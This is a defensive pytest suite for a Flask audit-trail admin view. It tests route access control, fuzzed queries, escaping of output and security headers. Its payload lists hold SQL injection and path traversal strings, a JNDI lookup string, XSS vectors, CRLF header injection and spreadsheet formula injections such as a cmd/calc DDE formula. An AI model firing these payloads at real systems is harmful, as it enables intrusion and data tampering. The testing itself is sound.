"""Adversarial tests of the Flask admin view: access on every route (enumerated from the URL map), fuzzed query
strings, hostile values in every displayed field, CSV formula injection and the security headers.

``AUDIT_LONG_TESTS=1`` runs the fuzzers with ten times the examples.
"""

from __future__ import annotations

import base64
import csv
import io
import json
import re
import threading
from collections.abc import Iterator
from datetime import datetime, timedelta, timezone
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any
from urllib.parse import urlencode

import pytest
from flask import url_for
from hypothesis import example, given, settings
from hypothesis import strategies as st

from audit_middleware import Actor, admin_view, in_workspace
from audit_middleware.events import AuditEvent
from audit_middleware.forwarding import WebhookDestination
from audit_middleware.ids import new_event_id
from audit_middleware.query import QUERY_PARAMETERS

from ...conftest import long_tests
from ...forwarding.receivers import SECRET
from . import conftest
from .conftest import dispose, make_app

FlaskApp = conftest.TestApp

ADMIN = "/admin/audit-trail"
CSRF_KEY = "_audit_trail_csrf"
CSRF = "c" * 43
LONG = long_tests()
EXAMPLES = 500 if LONG else 50
TEMPLATES = Path(__file__).resolve().parents[3] / "adapters" / "flask" / "templates"

#: every admin route's URL arguments, and what to pass; a new route with another argument fails the test
#: until it is added here (and so checked)
ROUTE_ARGUMENTS = ("event_id",)
#: routes that must exist (the enumeration must not come back empty)
REQUIRED_ENDPOINTS = {"audit_trail.index", "audit_trail.events_json", "audit_trail.export_csv",
                      "audit_trail.forwarding"}


@pytest.fixture
def sec(database_url: str) -> Iterator[FlaskApp]:
    """The test app with a forwarding destination (so the Forwarding page has forms), seeded in two
    workspaces: Ada owns ws_a (Bob is a non-owner member), Eve owns ws_b."""
    test_app = make_app(database_url, AUDIT_TRAIL_DESTINATIONS=[
        WebhookDestination("http://127.0.0.1:9/hook", SECRET, allow_private=True),
    ])
    try:
        ada, eve = test_app.client("ada@a.example"), test_app.client("eve@b.example")
        for n in range(3):
            warehouse = ada.post("/warehouses", data={"name": f"A-only-{n}"}).json["id"]
            eve.post("/warehouses", data={"name": f"B-only-{n}"})
        ada.post(f"/warehouses/{warehouse}", data={"enabled": "false"})
        ada.post(f"/warehouses/{warehouse}", data={"name": "A-only-renamed"})
        yield test_app
    finally:
        dispose(test_app)


def with_csrf(client: Any) -> Any:
    """A client whose session holds a known CSRF token, so a refusal can only come from the access check."""
    with client.session_transaction() as session:
        session[CSRF_KEY] = CSRF
    return client


def admin_routes(test_app: FlaskApp) -> list[tuple[str, str, frozenset[str]]]:
    """``(endpoint, method, arguments)`` of every route of the admin blueprint except its static files."""
    routes = []
    for rule in test_app.app.url_map.iter_rules():
        if not rule.endpoint.startswith("audit_trail.") or rule.endpoint == "audit_trail.static":
            continue
        for method in sorted((rule.methods or set()) - {"HEAD", "OPTIONS"}):
            routes.append((rule.endpoint, method, frozenset(rule.arguments)))
    return routes


def snapshot(test_app: FlaskApp) -> Any:
    """Everything of workspace A an attacker could change: its events, its warehouses, its forwarding."""
    with test_app.app.app_context():
        events = sorted(e.id for e in test_app.audit.iter_events() if e.workspace_id == "ws_a")
        warehouses = sorted((w.id, w.name, w.enabled) for w in test_app.db.session.query(test_app.Warehouse)
                            if w.workspace_id == "ws_a")
        outbox = test_app.audit.auditor.outbox
        assert outbox is not None
        forwarding = [(s.name, s.enabled, s.backlog, s.dead) for s in outbox.states("ws_a")]
    return events, warehouses, forwarding


def a_secrets(test_app: FlaskApp) -> list[str]:
    """Strings that only workspace A's data contains."""
    return ["A-only"] + [e.id for e in test_app.events() if e.workspace_id == "ws_a"]


def request(client: Any, method: str, url: str, query: str = "", form: dict[str, str] | None = None) -> Any:
    target = f"{url}?{query}" if query else url
    if method == "GET":
        return client.get(target)
    data = {"csrf_token": CSRF, **(form or {})}
    return client.open(target, method=method, data=data)


# -- access ---------------------------------------------------------------------------------------------------


def test_every_admin_route_denies_anonymous_visitors_non_owners_and_owners_of_another_workspace(sec):
    """Each route of the blueprint's URL map, with each of its methods, refuses anonymous visitors and
    non-owners with 403 and changes nothing; Eve, owner of workspace B, sees and changes nothing of workspace A
    even with workspace/workspace_id parameters and A's cursors in the query string and form."""
    routes = admin_routes(sec)
    assert REQUIRED_ENDPOINTS <= {endpoint for endpoint, _, _ in routes}
    ada = sec.client("ada@a.example")
    a_cursor = ada.get(ADMIN + "/events.json?limit=1").json["next_cursor"]
    assert a_cursor
    a_events = [e for e in sec.events() if e.workspace_id == "ws_a"]
    crafted = urlencode({"workspace": "ws_a", "workspace_id": "ws_a", "cursor": a_cursor, "newer": a_cursor})
    form = {"workspace": "ws_a", "workspace_id": "ws_a", "action": "save", "destination": "webhook",
            "enabled": "on", "confirm": "1", "force": "1"}
    markers = a_secrets(sec)
    before = snapshot(sec)
    for endpoint, method, arguments in routes:
        unknown = arguments - set(ROUTE_ARGUMENTS)
        assert not unknown, f"{endpoint} takes {sorted(unknown)}: add them to ROUTE_ARGUMENTS"
        for target in a_events if "event_id" in arguments else [None]:
            with sec.app.test_request_context():
                url = url_for(endpoint, **({"event_id": target.id} if target else {}))
            for who in (None, "bob@a.example"):
                response = request(with_csrf(sec.client(who)), method, url, crafted, form)
                assert response.status_code == 403, (who, method, url, response.status_code)
                body = response.get_data(as_text=True)
                assert not [m for m in markers if m in body], (who, method, url)
            response = request(with_csrf(sec.client("eve@b.example")), method, url, crafted, form)
            assert response.status_code < 500, (method, url, response.status_code)
            body = response.get_data(as_text=True)
            leaked = [m for m in markers if m in body and m not in url]  # an id Eve sent may be echoed
            assert not leaked, (method, url, leaked)
            assert snapshot(sec) == before, (method, url)
            if target is not None:  # no oracle: A's event answers as an event that does not exist
                with sec.app.test_request_context():
                    missing = url_for(endpoint, event_id=new_event_id())
                other = request(with_csrf(sec.client("eve@b.example")), method, missing, crafted, form)
                assert other.status_code == response.status_code, (method, url)
    # And the same requests work for Ada (so the refusals above are not a broken route).
    assert ada.get(ADMIN + "/?" + crafted).status_code == 200


def test_a_cursor_from_workspace_a_replayed_by_the_owner_of_b_shows_only_b(sec):
    """A cursor is only a position: replayed in another workspace it pages that workspace's own rows."""
    ada, eve = sec.client("ada@a.example"), sec.client("eve@b.example")
    cursor = ada.get(ADMIN + "/events.json?limit=1").json["next_cursor"]
    for path in ("/events.json", "/", "/export.csv"):
        body = eve.get(f"{ADMIN}{path}?cursor={cursor}&newer={cursor}&workspace_id=ws_a").get_data(as_text=True)
        assert "B-only" in body or path == "/events.json"
        assert not [m for m in a_secrets(sec) if m in body], path
    events = eve.get(f"{ADMIN}/events.json?cursor={cursor}&limit=500").json["events"]
    assert events and {e["workspace_id"] for e in events} == {"ws_b"}


def test_the_stylesheet_is_the_only_public_file_and_paths_cannot_escape_it(sec):
    """The static route serves admin.css to anyone and nothing outside the static folder."""
    anonymous = sec.client()
    with anonymous.get(ADMIN + "/static/admin.css") as css:
        assert css.status_code == 200
    for path in ("/static/../query.py", "/static/..%2fquery.py", "/static/%2e%2e/query.py",
                 "/static/..%5cquery.py", "/static/admin.css%00.py"):
        response = anonymous.get(ADMIN + path)
        assert response.status_code in (403, 404), path
        assert b"EventQuery" not in response.data


# -- input ----------------------------------------------------------------------------------------------------

INJECTIONS = [
    "' OR '1'='1", "1' OR 1=1 --", "'; DROP TABLE audit_events; --", "1); SELECT pg_sleep(10); --",
    "\" OR \"\"=\"", "` OR 1=1 #", "%' OR '%'='", "\\'; --", "../../../../etc/passwd", "..\\..\\windows\\win.ini",
    "%2e%2e%2f%2e%2e%2f", "\x00", "a\x00b", "\x00' OR 1=1", "x" * 5000, "9" * 400, "-1", "0", "501",
    "1e9", "NaN", "-Infinity", "0x10", "٣", "１２", " 7 ", "{{7*7}}", "${jndi:ldap://x/a}", "%s%n%x",
    "<script>alert(1)</script>", "2026-13-45", "2026-02-30", "0001-01-01T00:00:00+01:00",
    "9999-12-31T23:59:59-23:59", "0000-00-00", "2026-11-25T25:61:00Z", "1969-12-31", "\r\nSet-Cookie: x=1",
    "\u202e\u0000\ufeff", "🙂" * 60, "Warehouse Created", "user", "token",
]


def forged_cursor(when: str, event_id: Any) -> str:
    raw = json.dumps([when, event_id]).encode()
    return base64.urlsafe_b64encode(raw).decode().rstrip("=")


CURSORS = [
    forged_cursor("0001-01-01T00:00:00+01:00", "x"), forged_cursor("9999-12-31T23:59:59-05:00", "x"),
    forged_cursor("2026-11-25T00:00:00Z", "a\x00b"), forged_cursor("2026-11-25T00:00:00Z", "\ud800"),
    forged_cursor("2026-11-25T00:00:00Z", "' OR 1=1 --"), forged_cursor("2026-11-25T00:00:00Z", 5),
    forged_cursor("2026-11-25T00:00:00Z", "x" * 65), forged_cursor("nonsense", "x"),
    base64.urlsafe_b64encode(b"[" * 3000 + b"]" * 3000).decode(), base64.urlsafe_b64encode(b"{}").decode(),
    "!!", "====", "a" * 199,
]

text_values = st.text(st.characters(blacklist_categories=("Cs",)), max_size=300)
values = st.one_of(st.sampled_from(INJECTIONS), st.sampled_from(CURSORS), text_values,
                   st.integers(-(10**30), 10**30).map(str))
keys = st.one_of(st.sampled_from((*QUERY_PARAMETERS, "newer", "workspace", "workspace_id")),
                 st.text(st.characters(blacklist_categories=("Cs",)), min_size=1, max_size=12))
queries = st.lists(st.tuples(keys, values), min_size=1, max_size=6)


def named_parameter(response: Any, path: str) -> str | None:
    """The parameter a 400 names, as each route says it."""
    if path.endswith(".json"):
        assert response.mimetype == "application/json"
        return response.json["error"]["parameter"]  # type: ignore[no-any-return]
    text = response.get_data(as_text=True)
    if path.endswith(".csv"):
        match = re.match(r"Invalid filter: (\w+): ", text)
    else:
        match = re.search(r"<code>(\w+)</code>", text)
    return match.group(1) if match else None


def check_answer(response: Any, path: str, pairs: list[tuple[str, str]]) -> None:
    assert response.status_code in (200, 400), (path, pairs, response.status_code)
    if response.status_code == 400:
        parameter = named_parameter(response, path)
        assert parameter in {key for key, _ in pairs}, (path, pairs, parameter)
    elif path.endswith(".json"):
        assert response.mimetype == "application/json"
        assert all(e["workspace_id"] == "ws_a" for e in response.json["events"])
    elif path.endswith(".csv"):
        assert response.mimetype == "text/csv"
        rows = list(csv.DictReader(io.StringIO(response.get_data(as_text=True))))
        assert all(r["workspace_id"] == "ws_a" for r in rows)


def test_fuzzed_query_strings_never_crash_and_every_rejection_names_its_parameter(sec):
    """Random and hostile values (SQL, traversal, NUL, huge, forged cursors) in every query parameter of every
    GET route: the answer is a 200 of the viewer's workspace or a 400 naming one of the given parameters."""
    client = sec.client("ada@a.example")

    @settings(max_examples=EXAMPLES, deadline=None, database=None)
    @given(path=st.sampled_from(["/", "/events.json", "/export.csv", "/forwarding"]), pairs=queries)
    def check(path: str, pairs: list[tuple[str, str]]) -> None:
        response = client.get(ADMIN + path, query_string=urlencode(pairs))
        if path == "/forwarding":  # takes no query parameters: they are ignored
            assert response.status_code == 200
            return
        check_answer(response, path, pairs)

    check()


def test_each_injection_string_in_each_parameter_is_a_200_or_a_400_naming_it(sec):
    """Every hostile string, in every query parameter of the JSON route (where the database is queried)."""
    client = sec.client("ada@a.example")
    for value in INJECTIONS + CURSORS:
        for key in (*QUERY_PARAMETERS, "newer"):
            pairs = [(key, value)]
            response = client.get(ADMIN + "/events.json", query_string=urlencode(pairs))
            check_answer(response, "/events.json", pairs)


def test_raw_malformed_query_strings_and_repeated_parameters_are_handled(sec):
    """Bytes that are not UTF-8, bare keys, and parameters given twice: no 500."""
    client = sec.client("ada@a.example")
    for raw in ("since=%ff%fe", "actor=%c0%af", "cursor=%00", "limit&since", "limit=1&limit=2",
                "=x", "&&&", "event=" + "%41" * 300, "since=2026-01-01&until=2025-01-01"):
        for path in ("/", "/events.json", "/export.csv"):
            response = client.get(ADMIN + path, query_string=raw)
            assert response.status_code in (200, 400), (raw, path, response.status_code)


def test_fuzzed_post_forms_and_event_ids_never_crash(sec):
    """The Forwarding form and the revert route with random fields and event ids: never a 500."""
    client = with_csrf(sec.client("ada@a.example"))
    routes = {endpoint for endpoint, _, _ in admin_routes(sec)}
    form_fields = st.dictionaries(
        st.sampled_from(["action", "destination", "enabled", "delivery", "force", "confirm", "x"]),
        st.one_of(st.sampled_from(["save", "retry", "test", "webhook", "on", "1", "9" * 40, "-1", "\x00"]),
                  st.sampled_from(INJECTIONS), text_values), max_size=4)
    ids = st.one_of(st.sampled_from(["\x00", "x" * 1000, "' OR 1=1 --", "..", "%00", "0" * 64]),
                    st.text(st.characters(blacklist_categories=("Cs",), blacklist_characters="/?#"),
                            min_size=1, max_size=80))

    @settings(max_examples=EXAMPLES, deadline=None, database=None)
    @given(form=form_fields, event_id=ids)
    @example(form={"action": "retry", "delivery": "9" * 40}, event_id="\x00")
    @example(form={"action": "retry", "delivery": "-1"}, event_id="x" * 1000)
    def check(form: dict[str, str], event_id: str) -> None:
        response = client.post(ADMIN + "/forwarding", data={"csrf_token": CSRF, **form})
        assert response.status_code in (200, 400), (form, response.status_code)
        if "audit_trail.revert" in routes:
            with sec.app.test_request_context():
                url = url_for("audit_trail.revert", event_id=event_id)
            response = client.post(url, data={"csrf_token": CSRF, **form})
            assert 300 <= response.status_code < 500, (event_id, form, response.status_code)

    check()


def test_page_size_export_size_and_date_range_are_bounded(sec, monkeypatch):
    """limit is 1 to 500; an export matching more than MAX_EXPORT_ROWS events is a 400 before any row is
    sent; since cannot reach past the retention window."""
    client = sec.client("ada@a.example")
    for limit in ("0", "501", "100000"):
        response = client.get(ADMIN + "/events.json?limit=" + limit)
        assert response.status_code == 400 and response.json["error"]["parameter"] == "limit"
    assert client.get(ADMIN + "/events.json?limit=500").status_code == 200
    monkeypatch.setattr(admin_view, "MAX_EXPORT_ROWS", 2)
    refused = client.get(ADMIN + "/export.csv")
    assert refused.status_code == 400 and refused.mimetype == "text/plain"
    assert refused.get_data(as_text=True).startswith("Invalid filter: since: ")
    assert "more than the 2 one export may hold" in refused.get_data(as_text=True)
    narrow = client.get(ADMIN + "/export.csv?event=Warehouse+Disabled")
    assert narrow.status_code == 200 and len(narrow.get_data(as_text=True).splitlines()) == 2
    monkeypatch.undo()
    old = AuditEvent(id=new_event_id(), occurred_at=datetime.now(timezone.utc) - timedelta(days=400),
                     event="Warehouse Run Failed", category="Warehouses", action="run_failed",
                     actor=Actor.system("old"), workspace_id="ws_a", resource_name="A-only-ancient")
    with sec.app.app_context():
        sec.audit.store.append([old])
    for path in ("/events.json?since=1970-01-01&limit=500", "/export.csv?since=1970-01-01",
                 "/?since=1970-01-01&limit=500"):
        assert b"A-only-ancient" not in client.get(ADMIN + path).data, path


# -- output ---------------------------------------------------------------------------------------------------

PAYLOADS = [
    "<script>alert('s')</script>",
    "\"><img src=x onerror=alert(1)>",
    "'><svg onload=alert(2)>",
    "</textarea></title><iframe src=javascript:alert(3)>",
]


def test_xss_payloads_in_every_displayed_field_render_inert(sec):
    """Resource names, actor names, changed values, user agents, event names, categories and details holding
    HTML render escaped on the events, error, revert and Forwarding pages; JSON is served as JSON."""
    p0, p1, p2, p3 = PAYLOADS
    with sec.app.app_context():
        sec.db.session.add(sec.User(email=f"{p1}@a.example", workspace_id="ws_a", is_owner=True))
        sec.db.session.commit()
    sec.audit.catalog.define(f"Warehouse {p2} Exploded", category=f"Category {p3}")
    attacker = sec.client(f"{p1}@a.example")
    headers = {"User-Agent": p3, "X-Request-ID": "=cmd|calc"}
    warehouse = attacker.post("/warehouses", data={"name": p0, "schedule": p2}, headers=headers).json["id"]
    attacker.post(f"/warehouses/{warehouse}", data={"schedule": p1, "name": p3}, headers=headers)
    attacker.post(f"/warehouses/{warehouse}/run-failed", data={"error": p0}, headers=headers)
    with sec.app.test_request_context(headers=headers), in_workspace("ws_a"):
        sec.audit.record(f"Warehouse {p2} Exploded", resource_type=p1, resource_id=p0, resource_name=p3,
                         details={p1: p2})
    owner = with_csrf(sec.client("ada@a.example"))
    modified = [e for e in sec.events(events=("Warehouse Modified",)) if e.resource_name == p3][0]
    attacker.post(f"/warehouses/{warehouse}", data={"name": "changed since"})  # the revert now conflicts
    pages = [owner.get(ADMIN + "/"), owner.get(ADMIN + "/?limit=3"),
             owner.get(ADMIN + "/", query_string={"actor": p0, "resource_type": p1, "resource_id": p2,
                                                  "category": p3}),
             owner.get(ADMIN + "/", query_string={"since": p1}), owner.get(ADMIN + "/", query_string={"event": p0}),
             owner.get(ADMIN + "/forwarding")]
    routes = {endpoint for endpoint, _, _ in admin_routes(sec)}
    if "audit_trail.revert" in routes:
        pages.append(owner.post(f"{ADMIN}/events/{modified.id}/revert", data={"csrf_token": CSRF}))
        pages.append(owner.post(f"{ADMIN}/events/{p1}/revert", data={"csrf_token": CSRF}))
    assert pages[0].status_code == 200 and pages[3].status_code == 400
    for response in pages:
        html = response.get_data(as_text=True)
        assert response.mimetype == "text/html"
        for payload in PAYLOADS:
            assert payload not in html, (response.request.url, payload)
        assert "<script" not in html.lower() and "<img" not in html and "<svg" not in html and "<iframe" not in html
    html = pages[0].get_data(as_text=True)
    assert "&lt;script&gt;alert(" in html and "onerror=alert(1)&gt;" in html  # the values are shown, escaped
    for path in ("/events.json", "/events.json?since=" + p0):
        response = owner.get(ADMIN + path)
        assert response.mimetype == "application/json" and response.headers["X-Content-Type-Options"] == "nosniff"


def test_the_templates_hold_no_script_and_no_inline_handler(sec):
    """The CSP forbids scripts; the shipped templates have none, nor on*= attributes or unescaping filters."""
    for template in TEMPLATES.rglob("*.html"):
        text = template.read_text()
        assert "<script" not in text.lower(), template
        assert not re.search(r"\son[a-z]+\s*=", text), template
        assert "|safe" not in text.replace(" ", "") and "autoescape false" not in text, template


FORMULAS = ["=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1", "=HYPERLINK(\"http://evil\")",
            "=cmd|' /C calc'!A0"]


def test_csv_formula_injection_is_neutralised_in_every_column(sec):
    """An event with a spreadsheet formula in every text field exports with no cell a spreadsheet would run."""
    formula_events = []
    for n, formula in enumerate(FORMULAS):
        formula_events.append(AuditEvent(
            id=new_event_id(), occurred_at=datetime.now(timezone.utc), event=formula, category=formula,
            action=formula, actor=Actor("user", formula, formula), resource_type=formula, resource_id=formula,
            resource_name=formula, workspace_id="ws_a" if n else formula,
            changes={formula: [formula, formula]},
            context={"ip": formula, "user_agent": formula, "request_id": formula}, details={formula: formula},
        ))
    with sec.app.app_context():
        sec.audit.store.append(formula_events)
    client = sec.client("ada@a.example")
    response = client.get(ADMIN + "/export.csv")
    assert response.mimetype == "text/csv" and response.headers["Cache-Control"] == "no-store"
    rows = list(csv.reader(io.StringIO(response.get_data(as_text=True))))
    assert len(rows) > len(FORMULAS)
    for row in rows[1:]:
        for cell in row:
            assert not cell or cell[0] not in "=+-@\t\r", (row, cell)
    cells = {cell for row in rows for cell in row}
    assert "'=HYPERLINK(\"http://evil\")" in cells and "'@SUM(A1)" in cells


def test_every_admin_response_carries_the_security_headers(sec):
    """CSP without scripts and with frame-ancestors 'none', nosniff, DENY framing, no-store on pages, JSON
    and CSV (the stylesheet alone may be cached), on 200s, 400s and 403s alike; the set is the core's."""
    owner = sec.client("ada@a.example")

    def read(response: Any) -> Any:
        response.get_data()  # the CSV streams: read it so its request context ends now
        return response

    responses = [read(owner.get(ADMIN + p)) for p in ("/", "/events.json", "/export.csv", "/forwarding",
                                                       "/?since=x", "/events.json?limit=0", "/export.csv?limit=0")]
    responses += [sec.client().get(ADMIN + p) for p in ("/", "/events.json", "/export.csv")]
    responses.append(owner.post(ADMIN + "/forwarding", data={"action": "save"}))  # no CSRF token: 400
    for response in responses:
        headers = response.headers
        csp = headers["Content-Security-Policy"]
        assert "frame-ancestors 'none'" in csp and "default-src 'none'" in csp
        assert "script-src" not in csp and "unsafe-inline" not in csp and "unsafe-eval" not in csp
        for name, value in admin_view.security_headers().items():
            assert headers[name] == value, (response.request.url, name)
        assert headers["Cache-Control"] == "no-store"
    export = owner.get(ADMIN + "/export.csv")
    export.get_data()
    assert export.headers["Content-Disposition"].startswith("attachment; ")
    assert owner.get(ADMIN + "/events.json").mimetype == "application/json"
    with owner.get(ADMIN + "/static/admin.css") as css:
        assert css.headers["X-Content-Type-Options"] == "nosniff" and css.mimetype == "text/css"


class HostileReceiver:
    """A loopback receiver answering every POST with ``status``, an HTML body and an HTML Location."""

    def __init__(self, status: int) -> None:
        class Handler(BaseHTTPRequestHandler):
            def log_message(self, *args: Any) -> None:
                pass

            def do_POST(self) -> None:  # noqa: N802
                self.rfile.read(int(self.headers.get("Content-Length") or 0))
                body = PAYLOADS[0].encode()
                self.send_response(status)
                self.send_header("Location", "javascript:alert(9)//" + PAYLOADS[1])
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.server.daemon_threads = True
        self.url = f"http://127.0.0.1:{self.server.server_address[1]}/hook"
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def stop(self) -> None:
        self.server.shutdown()
        self.server.server_close()


@pytest.mark.parametrize("status", [422, 302])
def test_a_receivers_hostile_answer_is_shown_escaped_on_the_forwarding_page(database_url, status):
    """What a remote receiver answers (its body, its redirect Location) becomes the delivery's error on the
    Forwarding page, escaped like every other value."""
    receiver = HostileReceiver(status)
    test_app = make_app(database_url, AUDIT_TRAIL_DESTINATIONS=[
        WebhookDestination(receiver.url, SECRET, allow_private=True, timeout=5)])
    try:
        with test_app.app.app_context():
            outbox = test_app.audit.auditor.outbox
            assert outbox is not None
            outbox.set_enabled("ws_a", "webhook", True)
        owner = test_app.client("ada@a.example")
        owner.post("/warehouses", data={"name": PAYLOADS[2]})
        with test_app.app.app_context():
            test_app.audit.auditor.relay(backoff_base=0.01, backoff_cap=0.05).drain()
        html = owner.get(ADMIN + "/forwarding").get_data(as_text=True)
        assert 'id="fw-dead"' in html
        assert ("&lt;script&gt;" in html) if status == 422 else ("javascript:alert(9)" in html)
        for payload in PAYLOADS:
            assert payload not in html, payload
        assert "<script" not in html.lower() and "<img" not in html and 'href="javascript' not in html
    finally:
        receiver.stop()
        dispose(test_app)
